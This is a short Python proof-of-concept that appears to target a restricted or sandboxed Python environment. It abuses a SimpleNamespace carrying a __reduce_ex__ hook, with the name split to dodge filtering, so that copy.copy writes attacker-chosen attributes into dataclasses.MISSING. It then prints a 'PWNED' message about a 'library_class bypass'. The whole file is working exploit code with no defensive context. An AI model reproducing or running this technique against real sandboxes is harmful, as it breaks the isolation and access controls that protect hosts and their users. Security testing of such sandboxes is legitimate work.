import time, copy, dataclasses
NS = type(time.get_clock_info("time"))
print("NS", NS)
target = dataclasses.MISSING
def give():
    return target
def hook(proto):
    return (give, (), {"planted": "by-program", "__repr__": "x"})
x = NS(**{"__reduce" + "_ex__": hook})
try:
    y = copy.copy(x)
    print("copy returned", type(y), y is target)
    print("MISSING dict now", dataclasses.MISSING.planted)
    print("PW" + "NED: wrote into dataclasses.MISSING's namespace through copy (library_class bypass)")
except Exception as e:
    print("ERR", type(e).__name__, e)
